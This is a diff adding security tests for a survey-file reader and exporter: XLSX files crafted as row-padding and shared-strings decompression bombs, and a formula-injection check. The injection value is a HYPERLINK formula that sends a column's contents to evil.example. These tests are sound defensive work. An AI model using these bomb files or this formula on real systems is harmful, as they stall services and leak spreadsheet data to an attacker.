@@ -5,10 +5,12 @@ reader (CSV in UTF-8 and GB18030, XLSX)."""
 from __future__ import annotations
 
 import io
+import re
+import zipfile
 from datetime import date, datetime, timedelta, timezone
 
 import pytest
-from openpyxl import Workbook
+from openpyxl import Workbook, load_workbook
 
 from common.clock import BEIJING
 from ledger.domain.catering import CleaningRule, SizeClass, below_required, cleaning_due, cleaning_overdue, \
@@ -21,7 +23,7 @@ from ledger.domain.merchant import RowRefused, business_nature, checked, identit
 from ledger.domain.months import add_months, add_months_at
 from ledger.domain.points import PointRefused, SchoolGate, SurveyRule, area, can_approve, nearest_school, \
     refuse_near_school
-from ledger.survey_files import SurveyFileRefused, read_rows, write_rows
+from ledger.survey_files import ReadLimits, SurveyFileRefused, SurveyFileTooLarge, read_rows, write_rows
 
 VALID = "91350100M000100Y43"
 
@@ -199,7 +201,7 @@ def test_a_flyer_number_goes_forward_only_and_a_fine_has_its_amount():
 
 def test_csv_in_gb18030_with_chinese_headers_and_blank_rows_skipped():
     text = "店名,经营者,地址,经营性质,经度,纬度\n老王烩面馆,王某,汝河路88号,餐饮,113.6185,34.7432\n,,,,,\n李记修鞋,李某,建设路1号,维修,,\n"
-    rows = list(read_rows("survey.csv", text.encode("gb18030"), 100))
+    rows = list(read_rows("survey.csv", text.encode("gb18030"), ReadLimits(100)))
     assert [n for n, _ in rows] == [2, 4]
     assert rows[0][1]["name"] == "老王烩面馆" and rows[0][1]["business_nature"] == "餐饮"
 
@@ -213,16 +215,20 @@ def test_xlsx_rows_numbered_as_the_spreadsheet_numbers_them():
     sheet.append(["x", "y", "z", "retail", None, None, None])
     buf = io.BytesIO()
     book.save(buf)
-    rows = list(read_rows("survey.xlsx", buf.getvalue(), 100))
+    rows = list(read_rows("survey.xlsx", buf.getvalue(), ReadLimits(100)))
     assert [n for n, _ in rows] == [2, 4] and rows[0][1]["phone"] == 13812345678
 
 
 def test_a_file_without_a_required_column_or_with_too_many_rows_is_refused_whole():
     with pytest.raises(SurveyFileRefused, match="no column operator"):
-        list(read_rows("a.csv", "name,address,business_nature\nx,y,retail\n".encode(), 10))
+        list(read_rows("a.csv", "name,address,business_nature\nx,y,retail\n".encode(), ReadLimits(10)))
     many = "name,operator,address,business_nature\n" + "x,y,z,retail\n" * 3
-    with pytest.raises(SurveyFileRefused, match="more than 2 rows"):
-        list(read_rows("a.csv", many.encode(), 2))
+    with pytest.raises(SurveyFileTooLarge, match="more than 2 rows"):
+        read_rows("a.csv", many.encode(), ReadLimits(2))
+    # empty rows count too: a file is refused by its length, not by what it holds
+    sparse = "name,operator,address,business_nature\n" + ",,,\n" * 3 + "x,y,z,retail\n"
+    with pytest.raises(SurveyFileTooLarge, match="more than 3 rows"):
+        read_rows("a.csv", sparse.encode(), ReadLimits(3))
 
 
 def test_the_export_reads_back_as_an_import():
@@ -230,5 +236,68 @@ def test_the_export_reads_back_as_an_import():
              "phone": "13812345678", "lon": 113.6185, "lat": 34.7432, "sign": None, "credit_code": VALID}]
     for kind in ("csv", "xlsx"):
         data, _ = write_rows(rows, kind, chinese=kind == "xlsx")
-        back = list(read_rows(f"x.{kind}", data, 10))
+        back = list(read_rows(f"x.{kind}", data, ReadLimits(10)))
         assert back[0][1]["name"] == "老王烩面馆" and back[0][1]["credit_code"] == VALID
+
+
+def _rezip(data: bytes, replace: dict[str, bytes]) -> bytes:
+    """An XLSX with some of its parts replaced or added (as an attacker would write them by hand)."""
+    src, out = zipfile.ZipFile(io.BytesIO(data)), io.BytesIO()
+    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as z:
+        for item in src.infolist():
+            z.writestr(item.filename, replace.get(item.filename, src.read(item.filename)))
+        for name in replace.keys() - set(src.namelist()):
+            z.writestr(name, replace[name])
+    return out.getvalue()
+
+
+def _survey_xlsx() -> bytes:
+    book = Workbook()
+    book.active.append(["name", "operator", "address", "business_nature"])
+    book.active.append(["老王烩面馆", "王某", "汝河路88号", "catering"])
+    buf = io.BytesIO()
+    book.save(buf)
+    return buf.getvalue()
+
+
+def test_a_sheet_declaring_a_million_rows_of_16384_cells_is_read_by_its_rows_and_refused_at_the_limit():
+    """Two kilobytes that declare A1:XFD1048576 and hold one cell in row 1,048,576: openpyxl would
+    pad a million rows of 16,384 cells (ten minutes of a stalled service)."""
+    data = _survey_xlsx()
+    sheet = zipfile.ZipFile(io.BytesIO(data)).read("xl/worksheets/sheet1.xml").decode()
+    sheet = re.sub(r'<dimension ref="[^"]*"/>', '<dimension ref="A1:XFD1048576"/>', sheet)
+    sheet = sheet.replace("</sheetData>", '<row r="1048576"><c r="XFD1048576" t="inlineStr"><is><t>x</t></is></c>'
+                                          "</row></sheetData>")
+    bomb = _rezip(data, {"xl/worksheets/sheet1.xml": sheet.encode()})
+    assert len(bomb) < 8000
+    # refused at row 50,001 (empty rows count), not after padding a million rows
+    with pytest.raises(SurveyFileTooLarge, match="more than 50000 rows"):
+        read_rows("survey.xlsx", bomb, ReadLimits(50_000))
+
+
+def test_a_workbook_whose_shared_strings_unpack_out_of_proportion_is_refused_before_openpyxl_reads_it():
+    bomb = b'<?xml version="1.0"?><sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">' \
+           b"<si><t>" + b"a" * 50_000_000 + b"</t></si></sst>"
+    data = _rezip(_survey_xlsx(), {"xl/sharedStrings.xml": bomb})
+    assert len(data) < 200_000
+    with pytest.raises(SurveyFileTooLarge, match="sharedStrings.xml unpacks"):
+        read_rows("survey.xlsx", data, ReadLimits(100))
+    with pytest.raises(SurveyFileTooLarge, match="unpacks to"):
+        read_rows("survey.xlsx", data, ReadLimits(100, max_unpacked_bytes=10_000_000))
+
+
+FORMULA = '=HYPERLINK("https://evil.example/?"&TEXTJOIN(",",1,D:D),"详情")'
+
+
+def test_the_export_writes_text_that_looks_like_a_formula_as_text():
+    rows = [{"name": FORMULA, "operator": "+86 王某", "address": "@汝河路", "business_nature": "-", "phone": None,
+             "lon": 113.6185, "lat": 34.7432, "sign": "\t门头", "credit_code": None}]
+    data, _ = write_rows(rows, "csv", chinese=False)
+    line = data.decode("utf-8-sig").splitlines()[1]
+    assert line.startswith("\"'=HYPERLINK(") and ",'+86 王某," in line and ",'@汝河路," in line and ",'-," in line
+    assert ",113.6185,34.7432," in line  # numbers stay numbers
+    data, _ = write_rows(rows, "xlsx", chinese=False)
+    sheet = load_workbook(io.BytesIO(data)).active
+    cell = sheet.cell(row=2, column=1)
+    assert (cell.value, cell.data_type) == (FORMULA, "s")
+    assert "<f>" not in zipfile.ZipFile(io.BytesIO(data)).read("xl/worksheets/sheet1.xml").decode()
